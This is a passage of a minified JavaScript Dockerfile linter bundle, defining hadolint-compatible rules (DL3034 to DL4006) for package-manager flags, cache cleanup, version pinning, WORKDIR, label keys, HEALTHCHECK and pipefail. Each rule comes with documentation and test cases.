+RUN yum install -y /usr/bin/ps "perl(Data::Dumper)" $PKGS
+`,expect:[]}]},Od=Ok;var Sk=["install","in","remove","rm","source-install","si","patch","update","up","dist-upgrade","dup"],Mk={id:"DL3034",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3034"},docs:{summary:"Non-interactive switch missing from `zypper` command: use `zypper install -y` (or `zypper -n`).",why:"Without a terminal zypper cannot get an answer to its confirmation prompt and the build fails.",bad:`FROM opensuse/leap:15.6
+RUN zypper install httpd=2.4.58 && zypper clean
+`,good:`FROM opensuse/leap:15.6
+RUN zypper install -y httpd=2.4.58 && zypper clean
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){if(s.name!=="zypper")continue;let i=T(s,ft)[0];!i||!Sk.includes(i.value)||We(s,["y","n"],["no-confirm","non-interactive"])||e({message:"Non-interactive switch missing from `zypper` command: `zypper install -y`",range:i.range,fixes:[{title:"Add `-y`",edits:[oe(i,"-y")],preferred:!0}]})}},tests:[{name:"missing",input:`FROM opensuse/leap
+RUN zypper install httpd
+`,expect:[{line:2,col:12}],fixed:`FROM opensuse/leap
+RUN zypper install -y httpd
+`},{name:"-y, --no-confirm",input:`FROM opensuse/leap
+RUN zypper in -y httpd && zypper rm --no-confirm vim
+`,expect:[]},{name:"global -n / --non-interactive",input:`FROM opensuse/leap
+RUN zypper -n install httpd && zypper --non-interactive in git
+`,expect:[]},{name:"refresh does not prompt",input:`FROM opensuse/leap
+RUN zypper refresh
+`,expect:[]}]},Sd=Mk;var Ak={id:"DL3035",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3035"},docs:{summary:"Do not use `zypper dist-upgrade`.",why:"A distribution upgrade inside an image build moves the whole system to whatever the repositories hold that day; use an up-to-date base image instead.",bad:`FROM opensuse/leap:15.6
+RUN zypper -n dist-upgrade
+`,good:`FROM opensuse/leap:15.6
+RUN zypper -n install -y httpd=2.4.58 && zypper clean
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){if(s.name!=="zypper")continue;let i=T(s,ft)[0];i&&(i.value==="dist-upgrade"||i.value==="dup")&&e({message:"Do not use `zypper dist-upgrade`",range:i.range})}},tests:[{name:"dist-upgrade",input:`FROM opensuse/leap
+RUN zypper -n dist-upgrade
+`,expect:[{line:2,col:15}]},{name:"dup",input:`FROM opensuse/leap
+RUN zypper dup -y
+`,expect:[{line:2}]},{name:"install",input:`FROM opensuse/leap
+RUN zypper -n install vim
+`,expect:[]}]},Md=Ak;var Nk={id:"DL3036",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3036"},docs:{summary:"`zypper clean` missing after `zypper install`.",why:"zypper keeps repository metadata and packages in `/var/cache/zypp`; clean it in the same RUN or it stays in the layer.",bad:`FROM opensuse/leap:15.6
+RUN zypper install -y httpd=2.4.58
+`,good:`FROM opensuse/leap:15.6
+RUN zypper install -y httpd=2.4.58 && zypper clean
+`},check({model:n,report:e}){for(let t of F(n)){let s=a=>a.name==="zypper"?T(a,ft)[0]?.value:void 0,i=t.commands.findIndex(a=>["install","in"].includes(s(a)??""));if(i<0||t.commands.some((a,c)=>c>i&&(["clean","cc"].includes(s(a)??"")||a.name==="rm"&&a.args.some(l=>/^\/var\/cache\/zypp/.test(l.value))))||ye(n,t.ins,"/var/cache/zypp"))continue;let o=Ge(n,t,"zypper clean -a");e({message:"`zypper clean` missing after zypper use",range:t.commands[i].nameWord.range,fixes:o?[{title:"Append `zypper clean -a`",edits:[o],preferred:!0}]:void 0})}},tests:[{name:"missing",input:`FROM opensuse/leap
+RUN zypper install -y vim
+`,expect:[{line:2,col:5}],fixed:`FROM opensuse/leap
+RUN zypper install -y vim && zypper clean -a
+`},{name:"cleaned",input:`FROM opensuse/leap
+RUN zypper install -y vim && zypper clean
+`,expect:[]},{name:"zypper cc",input:`FROM opensuse/leap
+RUN zypper -n in vim && zypper cc -a
+`,expect:[]},{name:"clean before install does not count",input:`FROM opensuse/leap
+RUN zypper clean && zypper install -y vim
+`,expect:[{line:2}]}]},Ad=Nk;var Ek={id:"DL3037",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3037"},docs:{summary:"Specify versions with `zypper install -y <package>=<version>`.",why:"Unpinned packages make every build depend on what the repositories hold that day; a rebuild can silently upgrade and break the image.",bad:`FROM opensuse/leap:15.6
+RUN zypper install -y httpd && zypper clean
+`,good:`FROM opensuse/leap:15.6
+RUN zypper install -y httpd=2.4.58 && zypper clean
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){if(s.name!=="zypper")continue;let i=T(s,ft);if(!i[0]||!["install","in"].includes(i[0].value))continue;let r=i.slice(1).filter(o=>yn(o)&&!/[=<>]/.test(o.value)&&!o.value.endsWith(".rpm"));r.length&&e({message:`Specify version with \`zypper install -y <package>=<version>\`: ${r.map(o=>o.value).join(", ")}`,range:r[0].range})}},tests:[{name:"unpinned",input:`FROM opensuse/leap
+RUN zypper install -y httpd
+`,expect:[{line:2,col:23}]},{name:"pinned",input:`FROM opensuse/leap
+RUN zypper install -y httpd=2.4.58 "git>=2.40" ./x.rpm
+`,expect:[]},{name:"type value",input:`FROM opensuse/leap
+RUN zypper install -y -t pattern devel_basis=1
+`,expect:[]}]},Nd=Ek;var Fk=["dnf","dnf5","microdnf"],Ck={id:"DL3038",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3038"},docs:{summary:"Use the `-y` switch with `dnf install`.",why:'A build has no terminal: dnf asks "Is this ok [y/N]", reads end-of-file and aborts the install, failing the build.',bad:`FROM fedora:40
+RUN dnf install httpd-2.4.59 && dnf clean all
+`,good:`FROM fedora:40
+RUN dnf install -y httpd-2.4.59 && dnf clean all
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){if(!Fk.includes(s.name))continue;let i=T(s,Le)[0];!i||!["install","groupinstall","localinstall","reinstall"].includes(i.value)||We(s,["y"],["assumeyes"])||e({message:`Use the -y switch to avoid manual input \`${s.name} install -y <package>\``,range:i.range,fixes:[{title:"Add `-y`",edits:[oe(i,"-y")],preferred:!0}]})}},tests:[{name:"missing",input:`FROM fedora
+RUN dnf install httpd
+`,expect:[{line:2,col:9}],fixed:`FROM fedora
+RUN dnf install -y httpd
+`},{name:"microdnf",input:`FROM ubi9-minimal
+RUN microdnf install httpd
+`,expect:[{line:2}]},{name:"present",input:`FROM fedora
+RUN dnf -y install httpd && dnf install --assumeyes git
+`,expect:[]},{name:"dnf module enable is not install",input:`FROM fedora
+RUN dnf module enable -y nodejs:20
+`,expect:[]}]},Ed=Ck;var Fd=["dnf","dnf5","microdnf"],Lk={id:"DL3040",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3040"},docs:{summary:"`dnf clean all` missing after `dnf install`.",why:"dnf keeps repository metadata and packages in `/var/cache/dnf`; clean it in the same RUN or it stays in the layer.",bad:`FROM fedora:40
+RUN dnf install -y httpd-2.4.59
+`,good:`FROM fedora:40
+RUN dnf install -y httpd-2.4.59 && dnf clean all
+`},check({model:n,report:e}){for(let t of F(n))for(let s of Fd){let i=t.commands.findIndex(a=>a.name===s&&T(a,Le)[0]?.value==="install");if(i<0||t.commands.some((a,c)=>c>i&&(Fd.includes(a.name)&&a.args.some((l,u)=>l.value==="clean"&&a.args[u+1]?.value==="all")||a.name==="rm"&&a.args.some(l=>/^\/var\/cache\/(yum|dnf)(\/\*?)?$/.test(l.value))))||ye(n,t.ins,"/var/cache/dnf")||ye(n,t.ins,"/var/cache/yum"))continue;let o=Ge(n,t,`${s} clean all`);e({message:`\`${s} clean all\` missing after ${s} command`,range:t.commands[i].nameWord.range,fixes:o?[{title:`Append \`${s} clean all\``,edits:[o],preferred:!0}]:void 0})}},tests:[{name:"missing",input:`FROM fedora
+RUN dnf install -y httpd
+`,expect:[{line:2,col:5}],fixed:`FROM fedora
+RUN dnf install -y httpd && dnf clean all
+`},{name:"microdnf",input:`FROM ubi9-minimal
+RUN microdnf install -y httpd
+`,expect:[{line:2}],fixed:`FROM ubi9-minimal
+RUN microdnf install -y httpd && microdnf clean all
+`},{name:"cleaned",input:`FROM fedora
+RUN dnf install -y httpd && dnf clean all
+`,expect:[]},{name:"rm of the cache",input:`FROM fedora
+RUN dnf install -y httpd && rm -rf /var/cache/yum/*
+`,expect:[]},{name:"cache mount",input:`FROM fedora
+RUN --mount=type=cache,target=/var/cache/dnf dnf install -y httpd
+`,expect:[]}]},Cd=Lk;var Dk=["dnf","dnf5","microdnf"],Tk={id:"DL3041",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3041"},docs:{summary:"Specify versions with `dnf install -y <package>-<version>`.",why:"Unpinned packages make every build depend on what the repositories hold that day; a rebuild can silently upgrade and break the image.",bad:`FROM fedora:40
+RUN dnf install -y httpd && dnf clean all
+`,good:`FROM fedora:40
+RUN dnf install -y httpd-2.4.59 && dnf clean all
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){if(!Dk.includes(s.name))continue;let i=T(s,Le),r=i[0]?.value==="module";if(i[0]?.value==="group"||i[0]?.value==="groupinstall"||(r?i[1]:i[0])?.value!=="install")continue;let a=i.slice(r?2:1).filter(c=>yn(c)&&(r?!c.value.includes(":"):!ur(c.value)));a.length&&e({message:`Specify version with \`${s.name} install -y <package>-<version>\`: ${a.map(c=>c.value).join(", ")}`,range:a[0].range})}},tests:[{name:"unpinned",input:`FROM fedora
+RUN dnf install -y httpd python3-pip
+`,expect:[{line:2,col:20,message:"httpd, python3-pip"}]},{name:"pinned",input:`FROM fedora
+RUN dnf install -y httpd-2.4.59 "git-2.45*" ./x.rpm
+`,expect:[]},{name:"module stream",input:`FROM fedora
+RUN dnf module install -y nodejs:20/common
+`,expect:[]},{name:"groups are not pinnable",input:`FROM fedora
+RUN dnf group install -y "Development Tools" && dnf install -y @c-development
+`,expect:[]},{name:"microdnf",input:`FROM ubi9-minimal
+RUN microdnf install -y shadow-utils
+`,expect:[{line:2}]}]},Ld=Tk;function Dd(n){if(n.keyword!=="ENV"&&n.keyword!=="ARG")return;let e;for(let t of n.node.getArguments()){let s=/^PIP_NO_CACHE_DIR=["']?([^"']*)["']?$/.exec(t.getValue());s&&(e=s[1])}return e}var jk=/^(1|true|on|yes)$/i,_k={id:"DL3042",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3042"},docs:{summary:"Avoid the pip cache directory: use `pip install --no-cache-dir`.",why:"pip keeps every downloaded wheel in `~/.cache/pip`; in an image that cache is never reused but stays in the layer, often adding tens or hundreds of megabytes. `ENV PIP_NO_CACHE_DIR=1` or a cache mount are fine too.",bad:`FROM python:3.12-slim
+RUN pip install flask==3.0.3
+`,good:`FROM python:3.12-slim
+RUN pip install --no-cache-dir flask==3.0.3
+`},check({model:n,report:e}){for(let t of F(n)){let s=t.commands.map(o=>({c:o,pip:lr(o)})).filter(o=>o.pip);if(!s.length)continue;let i=pr(n,t.ins,"PIP_NO_CACHE_DIR",o=>Dd(o)!==void 0);if(!(i&&jk.test(Dd(i)))&&!t.commands.some(o=>[...o.assignments,...o.args].some(a=>/^PIP_NO_CACHE_DIR=(1|true|on|yes)$/i.test(a.value)))&&!(ye(n,t.ins,"/root/.cache/pip")||cs(n,t.ins).some(o=>o.type==="cache"&&/pip/.test(o.target??""))))for(let{c:o,pip:a}of s)a.all.some(c=>c.value==="--no-cache-dir"||c.value.startsWith("--cache-dir"))||o.assignments.some(c=>c.value.startsWith("PIP_NO_CACHE_DIR="))||e({message:"Avoid use of cache directory with pip. Use `pip install --no-cache-dir <package>`",range:a.install.range,fixes:[{title:"Add `--no-cache-dir`",edits:[oe(a.install,"--no-cache-dir")],preferred:!0}]})}},tests:[{name:"missing",input:`FROM python:3.12
+RUN pip install -r requirements.txt
+`,expect:[{line:2,col:9}],fixed:`FROM python:3.12
+RUN pip install --no-cache-dir -r requirements.txt
+`},{name:"python -m pip",input:`FROM python:3.12
+RUN python -m pip install flask==3.0.3
+`,expect:[{line:2,col:19}],fixed:`FROM python:3.12
+RUN python -m pip install --no-cache-dir flask==3.0.3
+`},{name:"present",input:`FROM python:3.12
+RUN pip3 install --no-cache-dir flask==3.0.3
+`,expect:[]},{name:"ENV PIP_NO_CACHE_DIR",input:`FROM python:3.12
+ENV PIP_NO_CACHE_DIR=1
+RUN pip install flask==3.0.3
+`,expect:[]},{name:"ENV in the parent stage",input:`FROM python:3.12 AS base
+ENV PIP_NO_CACHE_DIR=true
+FROM base
+RUN pip install flask==3.0.3
+`,expect:[]},{name:"ENV set to off does not count",input:`FROM python:3.12
+ENV PIP_NO_CACHE_DIR=off
+RUN pip install flask==3.0.3
+`,expect:[{line:3}]},{name:"env prefix",input:`FROM python:3.12
+RUN PIP_NO_CACHE_DIR=1 pip install flask==3.0.3
+`,expect:[]},{name:"cache mount",input:`FROM python:3.12
+RUN --mount=type=cache,target=/root/.cache/pip pip install flask==3.0.3
+`,expect:[]},{name:"other stage ENV does not count",input:`FROM python:3.12 AS a
+ENV PIP_NO_CACHE_DIR=1
+FROM python:3.12
+RUN pip install flask==3.0.3
+`,expect:[{line:4}]},{name:"not an install",input:`FROM python:3.12
+RUN pip freeze && pip wheel . -w /wheels
+`,expect:[]}]},Td=_k;var $k={id:"DL3045",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3045"},docs:{summary:"`COPY` to a relative destination without `WORKDIR` set.",why:"A relative destination is resolved against the working directory, which the base image chooses (often `/`). Set WORKDIR in the stage (or a stage it builds on) so the files land where you expect.",bad:`FROM node:20-slim
+COPY package.json app/
+`,good:`FROM node:20-slim
+WORKDIR /usr/src
+COPY package.json app/
+`},check({model:n,report:e}){for(let t of n.instructions){if(t.keyword!=="COPY"||!t.stage)continue;let s=bn(n,t);if(!s||s.values.length<2)continue;let i=s.values[s.values.length-1].replace(/^["']|["']$/g,"");i.startsWith("/")||i.startsWith("$")||/^[A-Za-z]:[\\/]/.test(i)||i.startsWith("\\")||pr(n,t,"WORKDIR",r=>r.keyword==="WORKDIR")||Gp(n,t.stage).from.getImageName()?.toLowerCase()!=="scratch"&&e({message:"`COPY` to a relative destination without `WORKDIR` set",range:s.ranges[s.ranges.length-1]})}},tests:[{name:"relative without WORKDIR",input:`FROM node
+COPY a.txt app/
+`,expect:[{line:2,col:12}]},{name:"scratch works in /",input:`FROM scratch
+COPY app .
+`,expect:[]},{name:"dot destination",input:`FROM node
+COPY . .
+`,expect:[{line:2}]},{name:"WORKDIR set",input:`FROM node
+WORKDIR /app
+COPY . .
+`,expect:[]},{name:"WORKDIR in the parent stage",input:`FROM node AS base
+WORKDIR /app
+FROM base
+COPY . .
+`,expect:[]},{name:"WORKDIR after the COPY does not count",input:`FROM node
+COPY . .
+WORKDIR /app
+`,expect:[{line:2}]},{name:"absolute, variable, Windows",input:`FROM node
+COPY a /app/
+COPY b $DIR
+COPY c C:\\\\app
+`,expect:[]}]},jd=$k;function Ik(n){return We(n,["q","o","a"],["progress","quiet","output-file","append-output","no-verbose"])||n.args.some(e=>e.value==="-nv")}var Pk={id:"DL3047",language:"dockerfile",severity:"info",compat:{hadolint:"DL3047"},docs:{summary:"Use `wget --progress=dot:giga` (or `-q` / `-nv`) in RUN.",why:"Without a terminal, wget's default progress output prints a line every few kilobytes: downloading a large file writes thousands of lines into the build log. `--progress=dot:giga` prints one dot per megabyte-sized chunk.",bad:`FROM debian:bookworm
+RUN wget https://example.com/big.tar.gz
+`,good:`FROM debian:bookworm
+RUN wget --progress=dot:giga https://example.com/big.tar.gz
+`},check({model:n,report:e,options:t}){let s=gt(n,t.buildArgs);for(let i of F(n)){let r=s.find(a=>a.stage===i.ins.stage),o=/alpine|busybox/i.test(r?.resolved??"");for(let a of i.commands){if(a.name!=="wget"||Ik(a))continue;let c={title:"Add `--progress=dot:giga`",edits:[oe(a.nameWord,"--progress=dot:giga")]},l={title:"Add `-q`",edits:[oe(a.nameWord,"-q")]};e({message:"Avoid use of wget without progress bar. Use `wget --progress=dot:giga <url>`. Or consider using `-q` or `-nv` (shorthands for `--quiet` or `--no-verbose`)",range:a.nameWord.range,fixes:o?[{...l,preferred:!0},c]:[{...c,preferred:!0},l]})}}},tests:[{name:"plain wget",input:`FROM debian
+RUN wget https://example.com/a.tgz
+`,expect:[{line:2,col:5}],fixed:`FROM debian
+RUN wget --progress=dot:giga https://example.com/a.tgz
+`},{name:"alpine prefers -q",input:`FROM alpine:3.20
+RUN wget -O /a https://example.com/a
+`,expect:[{line:2}],fixed:`FROM alpine:3.20
+RUN wget -q -O /a https://example.com/a
+`},{name:"--progress",input:`FROM debian
+RUN wget --progress=dot:giga https://example.com/a.tgz
+`,expect:[]},{name:"-q, -qO-, -nv, --no-verbose",input:`FROM debian
+RUN wget -q a && wget -qO- b && wget -nv c && wget --no-verbose d
+`,expect:[]},{name:"-o log file",input:`FROM debian
+RUN wget -o /tmp/log https://example.com/a
+`,expect:[]},{name:"-O is not -o",input:`FROM debian
+RUN wget -O a.tgz https://example.com/a.tgz
+`,expect:[{line:2}]},{name:"curl",input:`FROM debian
+RUN curl -fsSLO https://example.com/a
+`,expect:[]}]},_d=Pk;function qk(n){if(!/^[a-z]/.test(n))return"must start with a lower-case letter";if(!/[a-z0-9]$/.test(n))return"must end with a lower-case letter or digit";if(/[^a-z0-9.-]/.test(n))return"may only contain lower-case letters, digits, `.` and `-`";if(/\.\.|--/.test(n))return"must not contain consecutive `.` or `-`";if(/^(com\.docker\.|io\.docker\.|org\.dockerproject\.)/.test(n))return"uses a namespace reserved by Docker"}var Uk={id:"DL3048",language:"dockerfile",severity:"hint",compat:{hadolint:"DL3048"},docs:{summary:"Invalid label key.",why:"Docker recommends label keys in reverse-DNS notation made of lower-case letters, digits, `.` and `-` (e.g. `org.opencontainers.image.source`); the `com.docker.*`, `io.docker.*` and `org.dockerproject.*` namespaces are reserved.",bad:`FROM alpine:3.20
+LABEL Maintainer="team@example.com"
+`,good:`FROM alpine:3.20
+LABEL org.opencontainers.image.authors="team@example.com"
+`},check({model:n,report:e}){for(let t of n.instructions)if(t.keyword==="LABEL")for(let s of t.node.getProperties()){let i=s.getName().replace(/^"(.*)"$|^'(.*)'$/,"$1$2");if(!i||i.includes("$"))continue;let r=qk(i);r&&e({message:`Invalid label key \`${i}\`: ${r}`,range:s.getNameRange()})}},tests:[{name:"upper case",input:`FROM alpine
+LABEL Maintainer=me version=1
+`,expect:[{line:2,col:7,message:"lower-case"}]},{name:"reserved namespace",input:`FROM alpine
+LABEL com.docker.foo=1
+`,expect:[{line:2}]},{name:"underscore and double dot",input:`FROM alpine
+LABEL my_label=1 a..b=2
+`,expect:[{line:2,col:7},{line:2,col:18}]},{name:"quoted valid key",input:`FROM alpine
+LABEL "org.opencontainers.image.title"="x" description="y"
+`,expect:[]},{name:"legacy form",input:`FROM alpine
+LABEL maintainer me
+`,expect:[]},{name:"variable key",input:`FROM alpine
+LABEL \${PREFIX}.version=1
+`,expect:[]}]},$d=Uk;var Hk={id:"DL3057",language:"dockerfile",severity:"info",optIn:!0,compat:{hadolint:"DL3057"},docs:{summary:"HEALTHCHECK instruction missing (opt-in).",why:'Without a HEALTHCHECK, Docker and Compose only know whether the process runs, not whether it answers; a hung server stays "healthy". Many images (CLIs, build images, services probed by Kubernetes) need none, so this check is off unless you enable it. `HEALTHCHECK NONE` counts as a deliberate choice.',bad:`FROM nginx:1.27
+COPY site /usr/share/nginx/html
+`,good:`FROM nginx:1.27
+COPY site /usr/share/nginx/html
+HEALTHCHECK CMD curl -fs http://localhost/ || exit 1
+`},check({model:n,report:e}){let t=n.stages[n.stages.length-1];if(!t)return;let s=new Set;for(let i=t;i&&!s.has(i);i=It(n,i))if(s.add(i),i.instructions.some(r=>r.keyword==="HEALTHCHECK"))return;e({message:"`HEALTHCHECK` instruction missing",range:t.fromInstruction.range})},tests:[{name:"missing",input:`FROM nginx
+COPY a /b
+`,expect:[{line:1}]},{name:"in the final stage only",input:`FROM a AS x
+HEALTHCHECK CMD true
+FROM nginx
+`,expect:[{line:3}]},{name:"present",input:`FROM nginx
+HEALTHCHECK --interval=30s CMD curl -f http://localhost/
+`,expect:[]},{name:"NONE",input:`FROM nginx
+HEALTHCHECK NONE
+`,expect:[]},{name:"inherited from the parent stage",input:`FROM nginx AS base
+HEALTHCHECK CMD true
+FROM base
+`,expect:[]}]},Id=Hk;var Yk=new Set(["cd","pushd","popd","export","unset","set","source",".","umask","ulimit","alias","shopt","exit","exec","trap"]);function tl(n,e){let t=e.node.getArgumentsRange();return t?n.text.slice(n.lines.offsetAt(e.keywordRange.end),n.lines.offsetAt(t.start)).trim().replace(/\s+/g," "):""}function Bk(n,e,t){if(e.form!=="shell"||t.form!=="shell"||e.endsWithComment||e.opaque||t.opaque||e.commands.some(r=>Yk.has(r.name)))return!1;let s=n.textOf(e.ins.node.getArgumentsRange());if(/[;&|]\s*$/.test(s)||s.includes("<<")||n.textOf(t.ins.node.getArgumentsRange()).includes("<<"))return!1;let i=n.text.slice(n.lines.offsetAt(e.ins.range.end),n.lines.offsetAt(t.ins.range.start));return/^\s*$/.test(i)&&tl(n,t.ins)===""}var Wk={id:"DL3059",language:"dockerfile",severity:"info",compat:{hadolint:"DL3059"},docs:{summary:"Multiple consecutive RUN instructions: consider consolidation.",why:"Each RUN adds a layer; several short consecutive RUNs make the image bigger and slower to pull than one RUN chained with `&&`, and files deleted in a later RUN still take space in the earlier layer. RUNs that are already long (more than two commands) or use different `--mount` flags are left alone.",bad:`FROM debian:bookworm
+RUN mkdir -p /app
+RUN chown nobody /app
+`,good:`FROM debian:bookworm
+RUN mkdir -p /app && \\
+    chown nobody /app
+`},check({model:n,report:e}){for(let t of n.stages){let s;for(let i of t.instructions){if(i.keyword!=="RUN"){s=void 0;continue}let r=Gc(n,i),o=r?r.commands.length:1/0;if(s&&tl(n,s.ins)===tl(n,i)&&o<=2&&(s.run?.commands.length??1/0)<=2){let a=s.run&&r&&Bk(n,s.run,r)?[{title:"Merge into the previous RUN",edits:[{range:{start:s.ins.node.getArgumentsRange().end,end:i.node.getArgumentsRange().start},newText:` && ${n.escape}
+    `}]}]:void 0;e({message:"Multiple consecutive `RUN` instructions. Consider consolidation",range:i.keywordRange,fixes:a})}s={ins:i,run:r}}}},tests:[{name:"two short RUNs",input:`FROM debian
+RUN mkdir -p /app
+RUN chown nobody /app
+`,expect:[{line:3,col:1}],fixed:`FROM debian
+RUN mkdir -p /app && \\
+    chown nobody /app
+`},{name:"three RUNs",input:`FROM debian
+RUN a
+RUN b
+RUN c
+`,expect:[{line:3},{line:4}]},{name:"comments do not separate",input:`FROM debian
+RUN a
+# why
+RUN b
+`,expect:[{line:4}],fixed:`FROM debian
+RUN a
+# why
+RUN b
+`},{name:"another instruction separates",input:`FROM debian
+RUN a
+ENV X=1
+RUN b
+`,expect:[]},{name:"long RUNs are deliberate",input:`FROM debian
+RUN a && b && c
+RUN d
+`,expect:[]},{name:"different mounts",input:`FROM debian
+RUN --mount=type=cache,target=/root/.cache a
+RUN b
+`,expect:[]},{name:"different stages",input:`FROM debian AS a
+RUN a
+FROM debian
+RUN b
+`,expect:[]},{name:"no merge after cd",input:`FROM debian
+RUN cd /x
+RUN make
+`,expect:[{line:3}],fixed:`FROM debian
+RUN cd /x
+RUN make
+`}]},Pd=Wk;var Gk={id:"DL3060",language:"dockerfile",severity:"info",compat:{hadolint:"DL3060"},docs:{summary:"`yarn cache clean` missing after `yarn install`.",why:"yarn keeps a copy of every downloaded package in its cache; in an image layer that copy is dead weight. Clean it in the same RUN (or use a cache mount for the yarn cache).",bad:`FROM node:20-slim
+RUN yarn install --frozen-lockfile
+`,good:`FROM node:20-slim
+RUN yarn install --frozen-lockfile && yarn cache clean
+`},check({model:n,report:e}){for(let t of F(n)){let s=t.commands.find(r=>r.name==="yarn"&&T(r,["cwd","modules-folder","cache-folder"])[0]?.value==="install");if(!s||t.commands.some(r=>r.name==="yarn"&&r.args.some((o,a)=>o.value==="cache"&&r.args[a+1]?.value==="clean"))||cs(n,t.ins).some(r=>r.type==="cache"&&/yarn/.test(r.target??""))||s.args.some(r=>r.value.startsWith("--cache-folder")))continue;let i=Ge(n,t,"yarn cache clean");e({message:"`yarn cache clean` missing after `yarn install` was run",range:s.nameWord.range,fixes:i?[{title:"Append `yarn cache clean`",edits:[i],preferred:!0}]:void 0})}},tests:[{name:"missing",input:`FROM node:20
+RUN yarn install --frozen-lockfile
+`,expect:[{line:2,col:5}],fixed:`FROM node:20
+RUN yarn install --frozen-lockfile && yarn cache clean
+`},{name:"cleaned",input:`FROM node:20
+RUN yarn install && yarn build && yarn cache clean
+`,expect:[]},{name:"cache mount",input:`FROM node:20
+RUN --mount=type=cache,target=/usr/local/share/.cache/yarn yarn install
+`,expect:[]},{name:"yarn build only",input:`FROM node:20
+RUN yarn build
+`,expect:[]}]},qd=Gk;var Ud=new Set(["o","p","C","mod","modfile","tags","ldflags","gcflags","asmflags","gccgoflags","overlay","pkgdir","toolexec","exec","buildmode","compiler","installsuffix","pgo","covermode","coverpkg","buildvcs","modcacherw"]);function Vk(n){return n.startsWith(".")||n.startsWith("/")||n.endsWith(".go")?!1:n.split("@")[0].split("/")[0].includes(".")}var zk={id:"DL3062",language:"dockerfile",severity:"warning",compat:{hadolint:"DL3062"},docs:{summary:"Pin versions in `go install`, `go get` and `go run`: use `<package>@<version>`, not `@latest`.",why:"`go install example.com/tool@latest` (or without a version) builds whatever was tagged last, so two builds of the same Dockerfile can produce different tools. Name the version.",bad:`FROM golang:1.22
+RUN go install golang.org/x/tools/gopls@latest
+`,good:`FROM golang:1.22
+RUN go install golang.org/x/tools/gopls@v0.15.3
+`},check({model:n,report:e}){for(let t of F(n))for(let s of t.commands){if(s.name!=="go")continue;let i=T(s,Ud),r=i[0]?.value;if(r!=="install"&&r!=="get"&&r!=="run")continue;let o=i.slice(1);if(r==="install"&&o[0]?.value==="tool"&&(o=o.slice(1)),r==="run"){let a={...s,args:s.args.slice(s.args.indexOf(i[0])+1)},c=T(a,Ud)[0];o=c?[c]:[]}for(let a of o){if(a.dynamic||!Vk(a.value))continue;let c=a.value.lastIndexOf("@"),l=c<0?"":a.value.slice(c+1);l&&l!=="latest"||e({message:`Pin versions in go ${r}: ${a.value}. Instead of \`go ${r} <package>\` use \`go ${r} <package>@<version>\``,range:a.range})}}},tests:[{name:"@latest",input:`FROM golang:1.22
+RUN go install example.com/pkg@latest
+`,expect:[{line:2,col:16}]},{name:"no version",input:`FROM golang:1.22
+RUN go install example.com/pkg
+`,expect:[{line:2}]},{name:"pinned",input:`FROM golang:1.22
+RUN go install example.com/pkg@v1.2.3
+`,expect:[]},{name:"local paths",input:`FROM golang:1.22
+RUN go install ./cmd/... && go install . && go run main.go && go get -d -v ./...
+`,expect:[]},{name:"go get tool",input:`FROM golang:1.22
+RUN go get -tool example.com/foo@latest
+`,expect:[{line:2}]},{name:"go run pinned with program arguments",input:`FROM golang:1.22
+RUN go run example.com/pkg@v1.2.3 --foo bar
+`,expect:[]},{name:"go build is not checked",input:`FROM golang:1.22
+RUN go build -ldflags "-s -w" -o /app ./cmd/app
+`,expect:[]}]},Hd=zk;var Jk={id:"DL4001",language:"dockerfile",severity:"warning",compat:{hadolint:"DL4001"},docs:{summary:"Either use wget or curl, but not both, in a stage.",why:"Installing and using two download tools for the same job adds packages (and their vulnerabilities) to the image for nothing.",bad:`FROM debian:bookworm
+RUN curl -fsSLO https://example.com/a.tgz
+RUN wget -q https://example.com/b.tgz
+`,good:`FROM debian:bookworm
+RUN curl -fsSLO https://example.com/a.tgz
+RUN curl -fsSLO https://example.com/b.tgz
+`},check({model:n,report:e}){let t=new Map;for(let s of F(n)){let i=s.commands.filter(c=>c.name==="curl"||c.name==="wget");if(!i.length)continue;let r=t.get(s.ins.stage);r||t.set(s.ins.stage,r=new Set);let o=new Set(r);for(let c of i)r.add(c.name);if(r.size<2)continue;let a=i[0];o.size===1?a=i.find(c=>!o.has(c.name))??a:o.size===0&&(a=i.find(c=>c.name!==i[0].name)??a),e({message:"Either use Wget or Curl but not both",range:a.nameWord.range})}},tests:[{name:"both in one RUN",input:`FROM debian
+RUN curl -O a && wget -q b
+`,expect:[{line:2,col:18}]},{name:"across RUNs",input:`FROM debian
+RUN curl -O a
+RUN wget -q b
+RUN curl -O c
+`,expect:[{line:3},{line:4}]},{name:"different stages",input:`FROM debian AS a
+RUN curl -O a
+FROM alpine
+RUN wget -q b
+`,expect:[]},{name:"only one tool",input:`FROM debian
+RUN apt-get install -y curl wget && curl -O a
+`,expect:[]}]},Yd=Jk;var Kk={id:"DL4006",language:"dockerfile",severity:"warning",compat:{hadolint:"DL4006"},docs:{summary:"Set the SHELL option `-o pipefail` before a RUN with a pipe in it.",why:'A pipeline returns the status of its last command: in `RUN curl -fsSL https://x | tar -xz` a failed download is hidden when tar exits 0, and the build carries on with a broken image. `SHELL ["/bin/bash", "-o", "pipefail", "-c"]` (or `set -o pipefail` at the start of the RUN) makes the pipe fail. If your /bin/sh is busybox (Alpine), use `/bin/ash -o pipefail`; Debian\'s dash only supports pipefail in recent releases.',bad:`FROM debian:bookworm
+RUN curl -fsSL https://example.com/x.tgz | tar -xz
+`,good:`FROM debian:bookworm
+SHELL ["/bin/bash", "-o", "pipefail", "-c"]
+RUN curl -fsSL https://example.com/x.tgz | tar -xz
+`},check({model:n,report:e}){for(let t of F(n)){if(Vc(n,t.ins).pipefail)continue;let s=t.pipes.find(r=>!r.pipefail);if(!s)continue;let i=n.lines.positionAt(s.offset);e({message:"Set the SHELL option -o pipefail before RUN with a pipe in it. If you are using /bin/sh in an alpine image or if your shell is symlinked to busybox then consider explicitly setting your SHELL to /bin/ash, or disable this check",range:{start:i,end:{line:i.line,character:i.character+1}}})}},tests:[{name:"pipe with the default shell",input:`FROM debian
